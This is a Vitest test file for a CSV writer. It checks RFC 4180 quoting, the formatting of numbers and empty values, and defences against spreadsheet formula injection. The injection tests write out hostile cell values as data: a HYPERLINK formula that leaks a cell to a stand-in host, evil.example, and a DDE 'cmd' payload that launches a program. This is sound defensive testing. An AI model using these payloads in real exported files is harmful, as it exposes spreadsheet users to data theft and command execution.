import { describe, expect, it } from "vitest";
import { csvField, toCsv } from "@/lib/csv";

describe("csvField: RFC 4180 quoting", () => {
  it.each([
    ["plain", "plain"],
    ["x,y", '"x,y"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["crlf\r\ninside", '"crlf\r\ninside"'],
    ["", ""],
  ])("%j → %j", (raw, written) => expect(csvField(raw)).toBe(written));

  it("writes numbers and booleans bare, negative numbers included, and missing values empty", () => {
    expect([-0.5, 0, 1e-7, true, false, null, undefined, Number.NaN, Infinity].map(csvField)).toEqual([
      "-0.5",
      "0",
      "1e-7",
      "true",
      "false",
      "",
      "",
      "",
      "",
    ]);
  });
});

describe("csvField: formula injection (OWASP)", () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
    ],
    ["=1+1", "'=1+1"],
    ["+41 44 123", "'+41 44 123"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])("defuses %j", (raw, written) => expect(csvField(raw)).toBe(written));

  it("leaves text that only contains those characters later alone", () => {
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("team-a@example.com")).toBe("team-a@example.com");
    expect(csvField("'quoted")).toBe("'quoted");
  });
});

describe("toCsv", () => {
  it("writes a header and one CRLF-terminated line per row", () => {
    const csv = toCsv(
      ["a", "b", "c"],
      [
        ["x,y", 'say "hi"', -0.5],
        ["=HYPERLINK(1)", null, Number.NaN],
      ],
    );
    expect(csv).toBe('a,b,c\r\n"x,y","say ""hi""",-0.5\r\n\'=HYPERLINK(1),,\r\n');
  });

  it("writes only the header for no rows", () => {
    expect(toCsv(["only"], [])).toBe("only\r\n");
  });
});
